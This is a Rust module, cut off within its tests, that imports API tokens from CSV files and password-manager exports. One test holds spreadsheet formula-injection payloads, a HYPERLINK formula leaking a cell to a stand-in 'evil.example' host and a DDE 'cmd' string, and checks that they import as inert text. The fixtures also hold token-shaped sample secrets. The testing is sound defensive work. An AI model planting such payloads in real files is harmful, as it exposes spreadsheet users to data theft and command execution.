//! CSV with a header row (RFC 4180 quoting, UTF-8 with or without BOM, `,` or `;`), its columns
//! mapped to token fields by their names, or by hand through [`crate::ReadOptions::columns`].
//! One row reader serves the generic table and KeePassXC's and 1Password's CSV exports.
//! Errors and problems name lines, columns and fields: never the text of a secret cell.

use secrecy::SecretString;
use serde::{Deserialize, Serialize};
use std::borrow::Cow;
use tokenwarden_providers::ProviderId;

use crate::error::{Error, Result};
use crate::model::TokenKind;
use crate::reading;
use crate::{ImportRecord, Input, ReadOptions};

/// A token field a CSV column can hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(rename = "ImportField"))]
#[serde(rename_all = "snake_case")]
pub enum Field {
    Name,
    Secret,
    Provider,
    Kind,
    Url,
    Account,
    Environment,
    Expires,
    Scopes,
    Tags,
    Notes,
    Purpose,
    /// Read but not kept.
    Ignore,
}

impl Field {
    /// The field's name as messages and `--column HEADER=FIELD` write it.
    pub fn as_str(self) -> &'static str {
        match self {
            Field::Name => "name",
            Field::Secret => "secret",
            Field::Provider => "provider",
            Field::Kind => "kind",
            Field::Url => "url",
            Field::Account => "account",
            Field::Environment => "environment",
            Field::Expires => "expires",
            Field::Scopes => "scopes",
            Field::Tags => "tags",
            Field::Notes => "notes",
            Field::Purpose => "purpose",
            Field::Ignore => "ignore",
        }
    }

    /// The field a header names when nobody mapped it by hand.
    fn from_header(header: &str) -> Field {
        match header.trim().to_lowercase().as_str() {
            "name" | "title" => Field::Name,
            "token" | "secret" | "password" | "key" | "value" | "api key" | "api_key" => Field::Secret,
            "provider" | "service" => Field::Provider,
            "kind" | "type" => Field::Kind,
            "url" | "website" | "login_uri" => Field::Url,
            "username" | "account" | "user" | "login" => Field::Account,
            "environment" | "env" => Field::Environment,
            "expires" | "expiry" | "expiration" | "expires_at" | "expiry date" => Field::Expires,
            "scopes" | "scope" => Field::Scopes,
            "tags" | "tag" | "labels" => Field::Tags,
            "notes" | "note" | "comments" | "description" => Field::Notes,
            "purpose" => Field::Purpose,
            _ => Field::Ignore,
        }
    }
}

/// A CSV column and the field it holds.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct ColumnMap {
    pub header: String,
    pub field: Field,
}

/// What a column holds: a token field, or something only a password manager's export has.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Role {
    Field(Field),
    /// KeePassXC's group path ("Root/Work"), kept as a tag without its root group.
    Group,
    /// When the entry was created.
    Created,
    /// 1Password's archived flag: "true" adds the tag "archived".
    Archived,
}

impl Role {
    pub(crate) const SECRET: Role = Role::Field(Field::Secret);

    fn as_str(self) -> &'static str {
        match self {
            Role::Field(field) => field.as_str(),
            Role::Group => "group",
            Role::Created => "created",
            Role::Archived => "archived",
        }
    }
}

/// Where a table comes from, which decides what a row without a secret means.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Source {
    /// A spreadsheet or our own CSV export: every row that is not blank must hold a secret.
    Table,
    /// A password manager's export: entries without a password (notes, cards) are skipped.
    PasswordManager,
}

impl Source {
    /// Undoes our export's formula neutralizing (`'=…` back to `=…`, `''=…` to `'=…`); see
    /// `native::neutralize_formula`. Password managers' exports are taken as they are.
    fn unneutralize(self, cell: &str) -> &str {
        match self {
            Source::Table => crate::native::unneutralize_formula(cell),
            Source::PasswordManager => cell,
        }
    }

    /// Password managers allow spaces inside a tag and separate tags with `,` or `;`.
    fn split_tags(self, raw: &str) -> impl Iterator<Item = String> + '_ {
        let separators: &'static [char] = match self {
            Source::Table => &[',', ';', ' ', '\n', '\t'],
            Source::PasswordManager => &[',', ';', '\n'],
        };
        reading::split_on(raw, separators)
    }
}

/// A spreadsheet of tokens. Returns the records and how each column was mapped, in header order.
pub(crate) fn read_generic(input: &Input<'_>, options: &ReadOptions) -> Result<(Vec<ImportRecord>, Vec<ColumnMap>)> {
    let mut table = open(input)?;
    let columns = map_columns(input, &table.headers, options)?;
    let roles: Vec<Role> = columns.iter().map(|c| Role::Field(c.field)).collect();
    let records = read_rows(input, &mut table, &roles, Source::Table)?;
    Ok((records, columns))
}

/// A password manager's export, its columns mapped by `role` (which gets the trimmed, lowercased header).
pub(crate) fn read_password_manager(input: &Input<'_>, app: &str, role: fn(&str) -> Role) -> Result<Vec<ImportRecord>> {
    let mut table = open(input)?;
    let roles: Vec<Role> = table.headers.iter().map(|h| role(h.trim().to_lowercase().as_str())).collect();
    if !roles.contains(&Role::SECRET) {
        return Err(input.error(
            "line 1",
            "header",
            format!("has no Password column (found: {}); is this a {app} CSV export?", header_list(&table.headers)),
        ));
    }
    read_rows(input, &mut table, &roles, Source::PasswordManager)
}

/// A CSV file opened for reading: its text, a reader past the header row, and the headers.
struct Table<'a> {
    text: &'a str,
    reader: csv::Reader<&'a [u8]>,
    headers: Vec<String>,
}

/// Decodes the file, checks its quoting, and reads the header row.
fn open<'a>(input: &Input<'a>) -> Result<Table<'a>> {
    let text = reading::utf8(input)?;
    if text.trim().is_empty() {
        return Err(input.error("the whole file", "contents", "is empty"));
    }
    let delimiter = pick_delimiter(text);
    check_quotes(input, text, delimiter)?;
    let mut reader =
        csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).has_headers(true).from_reader(text.as_bytes());
    let headers = reader.headers().map_err(|e| csv_error(input, &e))?.iter().map(|h| h.trim().to_owned()).collect();
    Ok(Table { text, reader, headers })
}

/// `;` when the header line holds more of them than commas (outside quotes), else `,`.
fn pick_delimiter(text: &str) -> u8 {
    let (mut commas, mut semicolons, mut quoted) = (0usize, 0usize, false);
    for b in text.bytes() {
        match b {
            b'"' => quoted = !quoted,
            b'\n' if !quoted => break,
            b',' if !quoted => commas += 1,
            b';' if !quoted => semicolons += 1,
            _ => {}
        }
    }
    if semicolons > commas {
        b';'
    } else {
        b','
    }
}

/// Where a quote-checking scan stands within a cell.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Cell {
    Start,
    Unquoted,
    Quoted,
    /// A `"` inside a quoted cell: it closes the cell, or is the first half of `""`.
    QuoteInQuoted,
}

/// Refuses what the lenient `csv` reader would silently misread: a quoted cell that never closes
/// (it would swallow the rest of the file) and text after a closing quote.
fn check_quotes(input: &Input<'_>, text: &str, delimiter: u8) -> Result<()> {
    // Every problem found here starts at a quote: a file without one has none (one fast scan).
    if !text.as_bytes().contains(&b'"') {
        return Ok(());
    }
    let (mut state, mut line, mut opened_on) = (Cell::Start, 1usize, 1usize);
    for b in text.bytes() {
        state = match (state, b) {
            (Cell::Start, b'"') => {
                opened_on = line;
                Cell::Quoted
            }
            (Cell::Quoted, b'"') => Cell::QuoteInQuoted,
            (Cell::QuoteInQuoted, b'"') => Cell::Quoted,
            (Cell::Quoted, _) => Cell::Quoted,
            (_, b'\r') => Cell::Start,
            (_, b) if b == delimiter || b == b'\n' => Cell::Start,
            (Cell::QuoteInQuoted, _) => {
                return Err(input.error(
                    format!("line {line}"),
                    "CSV",
                    "has text after a closing quote; a quote inside a quoted cell must be doubled (\"\")",
                ));
            }
            _ => Cell::Unquoted,
        };
        if b == b'\n' {
            line += 1;
        }
    }
    if state == Cell::Quoted {
        return Err(input.error(format!("line {opened_on}"), "CSV", "has a quoted cell that is never closed"));
    }
    Ok(())
}

/// A `csv` error as an import error: its line, never the text it choked on.
fn csv_error(input: &Input<'_>, e: &csv::Error) -> Error {
    let at = e.position().map_or_else(|| "the whole file".to_owned(), |p| format!("line {}", p.line()));
    input.error(at, "CSV", "is not valid CSV here")
}

/// Each header's field: by hand when `options.columns` names it, else by its name. A field named
/// by hand, or by an earlier column, is not taken again; exactly one column must hold the secret.
fn map_columns(input: &Input<'_>, headers: &[String], options: &ReadOptions) -> Result<Vec<ColumnMap>> {
    let fold = |s: &str| s.trim().to_lowercase();
    let mut fields: Vec<Option<Field>> = vec![None; headers.len()];
    let mut by_hand = Vec::new();
    for (wanted, field) in &options.columns {
        let index = headers.iter().position(|h| fold(h) == fold(wanted)).ok_or_else(|| {
            input.error(
                "line 1",
                "columns",
                format!("'{wanted}' is not a column of this file (its columns: {})", header_list(headers)),
            )
        })?;
        fields[index] = Some(*field);
        by_hand.push(*field);
    }
    for (index, header) in headers.iter().enumerate() {
        if fields[index].is_none() {
            let field = Field::from_header(header);
            // Two columns named like secrets are an error, not a guess, unless one was mapped by hand.
            let taken = match field {
                Field::Ignore => false,
                Field::Secret => by_hand.contains(&Field::Secret),
                _ => fields.contains(&Some(field)),
            };
            fields[index] = Some(if taken { Field::Ignore } else { field });
        }
    }
    let columns: Vec<ColumnMap> = headers
        .iter()
        .zip(fields)
        .map(|(header, field)| ColumnMap { header: header.clone(), field: field.unwrap_or(Field::Ignore) })
        .collect();
    check_secret_column(input, &columns)?;
    Ok(columns)
}

fn check_secret_column(input: &Input<'_>, columns: &[ColumnMap]) -> Result<()> {
    let secret: Vec<&str> = columns.iter().filter(|c| c.field == Field::Secret).map(|c| c.header.as_str()).collect();
    match secret.as_slice() {
        [_] => Ok(()),
        [] if columns.iter().any(|c| reading::looks_like_token(&c.header)) => Err(input.error(
            "line 1",
            "header",
            "holds a value that looks like a token: add a header row (for example name,token) above the data",
        )),
        [] => {
            let found: Vec<&str> = columns.iter().map(|c| c.header.as_str()).collect();
            Err(input.error(
                "line 1",
                "columns",
                format!(
                    "no column holds the secret (found: {}); map a column to secret (--column HEADER=secret)",
                    header_list(&found)
                ),
            ))
        }
        several => Err(input.error(
            "line 1",
            "columns",
            format!(
                "columns {} all hold the secret; map all but one to another field (--column HEADER=ignore)",
                header_list(several)
            ),
        )),
    }
}

/// Reads every row after the header. Blank rows are skipped; so are a password manager's
/// entries without a password. A file that yields no token is an error.
fn read_rows(input: &Input<'_>, table: &mut Table<'_>, roles: &[Role], source: Source) -> Result<Vec<ImportRecord>> {
    // Sized once from the line count (at most one record a line after the header): growing by
    // doubling would copy and refill thousands of records several times over.
    let mut records = Vec::with_capacity(table.text.bytes().filter(|&b| b == b'\n').count());
    let mut lines = LineCounter { text: table.text.as_bytes(), offset: 0, line: 1 };
    // One record read into again and again, rather than a new one (two allocations) per row.
    let mut row = csv::StringRecord::new();
    while table.reader.read_record(&mut row).map_err(|e| csv_error(input, &e))? {
        let line = lines.line_at(row.position().map_or(0, csv::Position::byte));
        if let Some(record) = read_row(input, &row, line, roles, source)? {
            records.push(record);
        }
    }
    if records.is_empty() {
        let problem = match source {
            Source::Table => "has no rows with a token below the header",
            Source::PasswordManager => "holds no entries with a password",
        };
        return Err(input.error("the whole file", "rows", problem));
    }
    Ok(records)
}

/// Turns byte offsets into physical line numbers. `csv::Position::line` does not count the blank
/// lines the reader skips, and a record's byte offset points before them.
struct LineCounter<'a> {
    text: &'a [u8],
    offset: usize,
    line: u64,
}

impl LineCounter<'_> {
    /// The line on which the record that `byte` points to starts; offsets must not decrease.
    fn line_at(&mut self, byte: u64) -> u64 {
        let mut start = usize::try_from(byte).unwrap_or(usize::MAX).clamp(self.offset, self.text.len());
        while matches!(self.text.get(start), Some(b'\n' | b'\r')) {
            start += 1;
        }
        self.line += self.text[self.offset..start].iter().filter(|&&b| b == b'\n').count() as u64;
        self.offset = start;
        self.line
    }
}

/// One row as a record; `None` for a blank row or (from a password manager) one without a password.
fn read_row(
    input: &Input<'_>,
    row: &csv::StringRecord,
    line: u64,
    roles: &[Role],
    source: Source,
) -> Result<Option<ImportRecord>> {
    if row.iter().all(|cell| cell.trim().is_empty()) {
        return Ok(None);
    }
    let at = format!("line {line}");
    if row.iter().skip(roles.len()).any(|cell| !cell.trim().is_empty()) {
        return Err(input.error(
            &at,
            "CSV",
            format!("has {} cells but the header has {}; quote cells that hold the delimiter", row.len(), roles.len()),
        ));
    }
    let secret = roles.iter().position(|r| *r == Role::SECRET).and_then(|i| row.get(i)).unwrap_or("").trim();
    // Our export neutralizes the secret column too.
    let secret = source.unneutralize(secret);
    if secret.is_empty() {
        return match source {
            Source::Table => Err(input.error(&at, "secret", "is empty")),
            Source::PasswordManager => Ok(None),
        };
    }
    reading::check_secret_len(input, &at, "secret", secret)?;
    let mut record = ImportRecord::new(at, String::new(), SecretString::from(secret.to_owned()));
    // Ignored cells are not checked: a long TOTP or icon column must not refuse the file.
    let kept = |(role, _): &(&Role, &str)| !matches!(role, Role::Field(Field::Secret | Field::Ignore));
    for (role, cell) in roles.iter().zip(row.iter()).filter(kept) {
        let cell = source.unneutralize(cell);
        if let Some(value) = reading::field_str(input, &record.at, role.as_str(), Some(cell))? {
            // Line endings as `\n`; most cells have none, and are read in place (a cell is copied
            // only where the record keeps it).
            let value = match value.contains('\r') {
                true => Cow::Owned(value.replace("\r\n", "\n").replace('\r', "\n")),
                false => Cow::Borrowed(value),
            };
            apply_cell(&mut record, *role, value, source);
        }
    }
    if record.name.is_empty() {
        record.name = match &record.provider {
            Some(provider) => format!("{provider} token ({})", record.at),
            None => format!("imported token ({})", record.at),
        };
    }
    Ok(Some(record))
}

/// Puts one non-empty cell into the record; a value the vault would refuse becomes a problem.
fn apply_cell(record: &mut ImportRecord, role: Role, value: Cow<'_, str>, source: Source) {
    let field = match role {
        Role::Field(field) => field,
        Role::Group => {
            record.tags.extend(group_tag(&value));
            return;
        }
        Role::Created => {
            record.created_at = date(record, "created", &value);
            return;
        }
        Role::Archived => {
            if value.eq_ignore_ascii_case("true") {
                record.tags.push("archived".to_owned());
            }
            return;
        }
    };
    match field {
        // A name is one line: its lines joined (the cell comes trimmed).
        Field::Name if !value.contains('\n') => record.name = value.into_owned(),
        Field::Name => {
            record.name = value.lines().map(str::trim).filter(|l| !l.is_empty()).collect::<Vec<_>>().join(" ")
        }
        Field::Provider => match ProviderId::parse(&value) {
            Ok(provider) => record.provider = Some(provider),
            Err(_) => record.problems.push(format!("provider {} is not a provider id; left out", quote(&value))),
        },
        Field::Kind => match value.parse::<TokenKind>() {
            Ok(kind) => record.kind = Some(kind),
            Err(_) => {
                let kinds: Vec<&str> = TokenKind::ALL.iter().map(|k| k.as_str()).collect();
                let problem = format!("kind {} is not one of: {}; left out", quote(&value), kinds.join(", "));
                record.problems.push(problem);
            }
        },
        Field::Url if reading::is_http_url(&value) => record.url = Some(value.into_owned()),
        Field::Url => record.problems.push(format!("url {} is not an http(s) address; left out", quote(&value))),
        Field::Account => record.account = Some(value.into_owned()),
        Field::Environment => record.environment = Some(value.into_owned()),
        Field::Expires => record.expires_at = date(record, "expires", &value),
        Field::Scopes => record.scopes.extend(reading::split_list(&value)),
        Field::Tags => record.tags.extend(source.split_tags(&value)),
        Field::Notes => record.notes = Some(value.into_owned()),
        Field::Purpose => record.purpose = Some(value.into_owned()),
        Field::Secret | Field::Ignore => {}
    }
}

/// A date cell; one that is not a date is left out with a problem (it is not worth refusing the file).
fn date(record: &mut ImportRecord, field: &str, value: &str) -> Option<chrono::DateTime<chrono::Utc>> {
    let parsed = reading::lenient_date(value);
    if parsed.is_none() {
        record.problems.push(format!("{field} {} is not a date; left out", quote(value)));
    }
    parsed
}

/// The tag for a KeePassXC group path: the path without its first segment, the root group
/// (named "Root" or after the database). `None` for entries in the root group itself.
fn group_tag(path: &str) -> Option<String> {
    let below_root: Vec<&str> = path.split('/').map(str::trim).filter(|s| !s.is_empty()).skip(1).collect();
    let tag = below_root.join("/").replace([',', '\n'], " ");
    (!tag.is_empty()).then_some(tag)
}

/// Headers for a message. A header that holds a token is withheld: the file may have no header
/// row, and then its first row, secret included, was read as one.
fn header_list<S: AsRef<str>>(headers: &[S]) -> String {
    let shown: Vec<&str> = headers
        .iter()
        .map(AsRef::as_ref)
        .map(|h| if reading::holds_token(h) { reading::WITHHELD } else { h })
        .collect();
    shown.join(", ")
}

/// A cell quoted for a problem message: cut short, and withheld when it holds a token, so a row
/// whose cells slid into the wrong columns cannot put a secret into a message.
fn quote(value: &str) -> String {
    reading::quoted(value, 60)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keepassxc::read_csv as read_keepassxc;
    use crate::onepassword::read_csv as read_1password;
    use crate::reading::test_support::{assert_no_secret, failure, import_fixture};
    use proptest::prelude::*;
    use secrecy::ExposeSecret;
    use std::collections::BTreeMap;

    const BASIC: &[u8] = import_fixture!("csv/basic.csv");
    const SEMICOLON: &[u8] = import_fixture!("csv/semicolon.csv");
    const INJECTION: &[u8] = import_fixture!("csv/injection.csv");
    const BROKEN_QUOTE: &[u8] = import_fixture!("csv/broken-quote.csv");
    const NO_SECRET_COLUMN: &[u8] = import_fixture!("csv/no-secret-column.csv");
    const KEEPASSXC: &[u8] = import_fixture!("keepassxc-csv/export.csv");
    const ONEPASSWORD: &[u8] = import_fixture!("1password-csv/export.csv");

    /// Every secret the fixtures hold: none may appear in an error or a problem.
    const SECRETS: &[&str] = &[
        "ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d",
        "ghp_KLzdocJ2isAjIhKtJ0RlgLKOmxgJTeKdNnFR",
        "ghp_IBXuDL7DxtpYlSXpfKtHF4vUCsMehGAkWvj7",
        "glpat-FAc9QeWJKY40uvSwMFLZ",
        "sk-proj-De1f8rESQedUStPKR0CsTy4Qwb8DwkNhFdnXsiVp",
        "xoxb-zz63FfkCzJr4i0B3JrTAwR4y9ojflj",
        "github_pat_oQoaF1LlqsajAIxNKu8iS2G8NPRVdD53X83RZJzzzzgEOzdmenCkhvMdgaKj",
        "sk_live_Ig8xNbe3nNyjOq9wMxEhh2FD",
        "npm_EEtfjgVvVqE1SkHbn88HxjSI6bWHtP3fS2qH",
        "AKIAx6kwXoIIXGvOoNZY",
    ];

    fn input(bytes: &[u8]) -> Input<'_> {
        Input { name: "tokens.csv", bytes }
    }

    fn generic(bytes: &[u8]) -> Result<(Vec<ImportRecord>, Vec<ColumnMap>)> {
        read_generic(&input(bytes), &ReadOptions::default())
    }

    fn generic_with(bytes: &[u8], columns: &[(&str, Field)]) -> Result<(Vec<ImportRecord>, Vec<ColumnMap>)> {
        let columns: BTreeMap<String, Field> = columns.iter().map(|(h, f)| ((*h).to_owned(), *f)).collect();
        read_generic(&input(bytes), &ReadOptions { columns, ..ReadOptions::default() })
    }

    fn records(bytes: &[u8]) -> Vec<ImportRecord> {
        generic(bytes).unwrap().0
    }

    #[test]
    fn basic_csv_maps_every_column_by_its_header() {
        let records = records(BASIC);
        let r = &records[0];
        assert_eq!(r.at, "line 2");
        assert_eq!(r.name, "deploy-bot");
        assert_eq!(r.secret.expose_secret(), "ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d");
        assert_eq!(r.provider.as_ref().map(ProviderId::as_str), Some("github"));
        assert_eq!(r.kind, Some(TokenKind::PersonalAccessToken));
        assert_eq!(r.account.as_deref(), Some("ci-bot"));
        assert_eq!(r.environment.as_deref(), Some("production"));
        assert_eq!(r.expires_at.map(|t| t.to_rfc3339()).as_deref(), Some("2027-01-31T00:00:00+00:00"));
        assert_eq!(r.scopes, ["repo", "workflow"]);
        assert_eq!(r.tags, ["ci", "deploy"]);
        assert_eq!(r.notes.as_deref(), Some("Used by the release pipeline.\nRotate after each audit."));
        assert_eq!(r.url.as_deref(), Some("https://github.com/settings/tokens"));
        assert_eq!(r.purpose.as_deref(), Some("-publishes releases"));
        assert!(r.problems.is_empty(), "{:?}", r.problems);
    }

    #[test]
    fn column_maps_come_back_in_header_order_without_the_bom() {
        let (_, columns) = generic(BASIC).unwrap();
        let fields: Vec<(&str, Field)> = columns.iter().map(|c| (c.header.as_str(), c.field)).collect();
        assert_eq!(
            fields,
            [
                ("name", Field::Name),
                ("token", Field::Secret),
                ("provider", Field::Provider),
                ("kind", Field::Kind),
                ("account", Field::Account),
                ("environment", Field::Environment),
                ("expires", Field::Expires),
                ("scopes", Field::Scopes),
                ("tags", Field::Tags),
                ("notes", Field::Notes),
                ("url", Field::Url),
                ("purpose", Field::Purpose),
            ]
        );
    }

    #[test]
    fn blank_rows_are_skipped_and_records_name_their_physical_line() {
        let at: Vec<String> = records(BASIC).into_iter().map(|r| r.at).collect();
        assert_eq!(at, ["line 2", "line 4", "line 5", "line 7", "line 9"]);
    }

    #[test]
    fn doubled_quotes_and_folded_kind_names_are_read() {
        let r = &records(BASIC)[1];
        assert_eq!(r.notes.as_deref(), Some("She said \"temporary\" in March"));
        assert_eq!(r.kind, Some(TokenKind::ApiKey));
    }

    #[test]
    fn a_missing_name_is_derived_from_the_provider_or_the_line() {
        let r = &records(BASIC)[2];
        assert_eq!(r.name, "gitlab token (line 5)");
        assert_eq!(r.scopes, ["api", "read_repository"]);
        let (records, _) = generic(b"token,notes\nghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d,x\n").unwrap();
        assert_eq!(records[0].name, "imported token (line 2)");
    }

    #[test]
    fn values_the_vault_would_refuse_become_problems_not_errors() {
        let records = records(BASIC);
        assert_eq!(records[1].problems, ["expires 'next tuesday' is not a date; left out"]);
        assert!(records[1].expires_at.is_none());
        let slack = &records[3];
        assert!(slack.provider.is_none() && slack.kind.is_none() && slack.url.is_none());
        assert_eq!(slack.problems.len(), 3, "{:?}", slack.problems);
        assert!(slack.problems[0].starts_with("provider 'Slack!!'"), "{:?}", slack.problems);
        assert!(slack.problems[1].starts_with("kind 'bot token' is not one of: personal_access_token"));
        assert_eq!(slack.problems[2], "url 'app.slack.com' is not an http(s) address; left out");
        assert_eq!(slack.tags, ["alerts", "ops"]);
        assert_eq!(slack.expires_at.map(|t| t.to_rfc3339()).as_deref(), Some("2026-12-01T09:30:00+00:00"));
        assert_eq!(records[4].expires_at.map(|t| t.timestamp()), Some(1_800_000_000));
    }

    #[test]
    fn neutralized_formulas_lose_one_quote_in_every_cell_the_secret_included() {
        assert_eq!(records(BASIC)[3].notes.as_deref(), Some("=SUM(1+1)"));
        let (records, _) =
            generic(b"name,secret\n'@bot,'=ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d\n'plain,'x1\n''-quoted,''-x2\n")
                .unwrap();
        assert_eq!(records[0].name, "@bot");
        assert_eq!(records[0].secret.expose_secret(), "=ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d");
        assert_eq!((records[1].name.as_str(), records[1].secret.expose_secret()), ("'plain", "'x1"));
        assert_eq!((records[2].name.as_str(), records[2].secret.expose_secret()), ("'-quoted", "'-x2"));
    }

    #[test]
    fn formula_injection_strings_are_imported_verbatim_as_text() {
        let records = records(INJECTION);
        assert_eq!(records.len(), 3);
        assert_eq!(records[0].name, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")");
        assert_eq!(records[0].notes.as_deref(), Some("@SUM(1+1)*cmd|' /C calc'!A0"));
        assert_eq!(records[1].name, "+1+1");
        assert_eq!(records[1].notes.as_deref(), Some("-2+3"));
        assert_eq!(records[2].name, "=1+1");
        assert_eq!(records[2].notes.as_deref(), Some("@neutralized by our export"));
        assert!(records.iter().all(|r| r.problems.is_empty()));
    }

    #[test]
    fn semicolon_separated_files_are_read() {
        let (records, columns) = generic(SEMICOLON).unwrap();
        assert_eq!(
            columns.iter().map(|c| c.field).collect::<Vec<_>>(),
            [Field::Name, Field::Secret, Field::Provider, Field::Expires, Field::Tags, Field::Notes]
        );
        assert_eq!(records[0].name, "Stripe live");
        assert_eq!(records[0].secret.expose_secret(), "sk_live_Ig8xNbe3nNyjOq9wMxEhh2FD");
        assert_eq!(records[0].tags, ["payments", "prod"]);
        assert_eq!(records[0].notes.as_deref(), Some("charges, refunds and payouts"));
        assert_eq!(records[1].name, "AWS; backup user");
        assert_eq!(records[1].notes.as_deref(), Some("a note; with a semicolon"));
        assert!(records[1].expires_at.is_none() && records[1].problems.is_empty());
    }

    #[test]
    fn an_unclosed_quote_is_an_error_at_the_line_it_opens_on() {
        let err = failure(generic(BROKEN_QUOTE));
        assert_eq!(err, "tokens.csv: line 3: CSV: has a quoted cell that is never closed");
    }

    #[test]
    fn text_after_a_closing_quote_is_an_error_with_its_line() {
        let err = failure(generic(b"name,token\na,\"ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d\"x\n"));
        assert!(err.starts_with("tokens.csv: line 2: CSV: has text after a closing quote"), "{err}");
    }

    #[test]
    fn a_file_without_a_secret_column_names_its_headers_and_the_fix() {
        let err = failure(generic(NO_SECRET_COLUMN));
        assert!(err.contains("found: name, provider, notes"), "{err}");
        assert!(err.contains("map a column to secret"), "{err}");
    }

    #[test]
    fn a_header_holding_a_token_beside_other_text_is_withheld() {
        // Found by tests/fuzz_importers.rs: an XML line read as a CSV header showed its password.
        let secret = "glpat-FAc9QeWJKY40uvSwMFLZ";
        let csv = format!("name;<Value ProtectInMemory=\"True\">{secret}</Value>\nx;y\n");
        let err = failure(generic(csv.as_bytes()));
        assert!(err.contains("found: name, (a value that looks like a token)"), "{err}");
        let err = failure(read_keepassxc(&input(format!("Title,{secret}!!\nx,y\n").as_bytes())));
        assert!(err.contains("found: Title, (a value that looks like a token)"), "{err}");
        let (records, _) = generic(format!("name,token,provider\na,x1,{secret};oops\n").as_bytes()).unwrap();
        assert_eq!(records[0].problems, ["provider (a value that looks like a token) is not a provider id; left out"]);
    }

    #[test]
    fn columns_mapped_by_hand_override_the_automatic_mapping() {
        let csv = b"Label,Credential,Name\nci,ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d,ignored\n";
        let (records, columns) = generic_with(csv, &[("label", Field::Name), (" credential ", Field::Secret)]).unwrap();
        assert_eq!(columns.iter().map(|c| c.field).collect::<Vec<_>>(), [Field::Name, Field::Secret, Field::Ignore]);
        assert_eq!(records[0].name, "ci");
        let (_, columns) = generic_with(BASIC, &[("notes", Field::Ignore)]).unwrap();
        assert_eq!(columns[9].field, Field::Ignore);
    }

    #[test]
    fn a_hand_mapping_of_a_missing_column_is_an_error() {
        let err = failure(generic_with(BASIC, &[("secret key", Field::Secret)]));
        assert!(err.contains("'secret key' is not a column of this file"), "{err}");
    }

    #[test]
    fn two_secret_columns_are_an_error_not_a_guess() {
        let err = failure(generic(b"key,value\nA,B\n"));
        assert!(err.contains("columns key, value all hold the secret"), "{err}");
    }

    #[test]
    fn a_row_with_an_empty_secret_is_an_error_naming_its_line() {
        let err = failure(generic(b"name,token\na,ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d\n\nb,  \n"));
        assert_eq!(err, "tokens.csv: line 4: secret: is empty");
    }

    #[test]
    fn short_rows_are_padded_and_long_rows_are_refused() {
        let (records, _) = generic(b"name,token,notes\na,ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d\n").unwrap();
        assert!(records[0].notes.is_none());
        let (records, _) = generic(b"name,token\na,x1,,\n").unwrap();
        assert_eq!(records[0].name, "a");
        let err = failure(generic(b"name,token\na,b,c\n"));
        assert!(err.contains("line 2: CSV: has 3 cells but the header has 2"), "{err}");
    }

    #[test]
    fn an_overlong_field_is_an_error() {
        let csv = format!("name,token\n{},x1\n", "n".repeat(crate::MAX_FIELD_BYTES + 1));
        let err = failure(generic(csv.as_bytes()));
        assert!(err.contains("line 2: name: is longer than"), "{err}");
    }

    #[test]
    fn header_only_and_empty_files_are_errors() {
        assert!(failure(generic(b"name,token\n")).contains("has no rows with a token"));
        assert!(failure(generic(b"")).contains("is empty"));
    }

    #[test]
    fn keepassxc_export_maps_its_columns_and_groups() {
        let records = read_keepassxc(&input(KEEPASSXC)).unwrap();
        assert_eq!(records.len(), 3, "the entry without a password is skipped");
        let r = &records[0];
        assert_eq!((r.at.as_str(), r.name.as_str()), ("line 2", "GitHub deploy"));
        assert_eq!(r.account.as_deref(), Some("deploy-bot"));
        assert_eq!(r.secret.expose_secret(), "ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d");
        assert_eq!(r.url.as_deref(), Some("https://github.com"));
        assert_eq!(r.notes.as_deref(), Some("Fine-grained; repo scope only"));
        assert!(r.tags.is_empty(), "the root group is not a tag");
        assert_eq!(r.created_at.map(|t| t.to_rfc3339()).as_deref(), Some("2025-03-01T10:22:33+00:00"));
        assert_eq!(records[1].tags, ["Work"]);
        assert_eq!(records[1].notes.as_deref(), Some("Posts to #ops\nand #alerts"));
        assert_eq!(records[2].at, "line 5");
        assert_eq!(records[2].tags, ["Work/CI"]);
        assert_eq!(
            records[2].problems,
            [
                "url 'registry.npmjs.org' is not an http(s) address; left out",
                "created 'not a date' is not a date; left out"
            ]
        );
    }

    #[test]
    fn newer_keepassxc_exports_bring_tags_and_expiry() {
        let csv =
            "\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\",\"TOTP\",\"Icon\",\"Last Modified\",\
                   \"Created\",\"Tags\",\"Expiry Time\"\n\
                   \"Root/Ops\",\"PagerDuty\",\"\",\"W2mZp0zVZomHFwUbbYrEqmSM9wCZ7Uw9xfogoEmv\",\"\",\"\",\"\",\"0\",\
                   \"\",\"\",\"on call;prod,alerts\",\"2027-03-01T00:00:00Z\"\n";
        let records = read_keepassxc(&input(csv.as_bytes())).unwrap();
        assert_eq!(records[0].tags, ["Ops", "on call", "prod", "alerts"]);
        assert_eq!(records[0].expires_at.map(|t| t.to_rfc3339()).as_deref(), Some("2027-03-01T00:00:00+00:00"));
    }

    #[test]
    fn a_keepassxc_export_without_passwords_is_an_error() {
        let csv = b"\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\"\n\"Root\",\"note\",\"\",\"\",\"\",\"x\"\n";
        let err = failure(read_keepassxc(&input(csv)));
        assert!(err.contains("holds no entries with a password"), "{err}");
        let err = failure(read_keepassxc(&input(b"\"Group\",\"Title\"\n\"Root\",\"x\"\n")));
        assert!(err.contains("has no Password column") && err.contains("KeePassXC"), "{err}");
    }

    #[test]
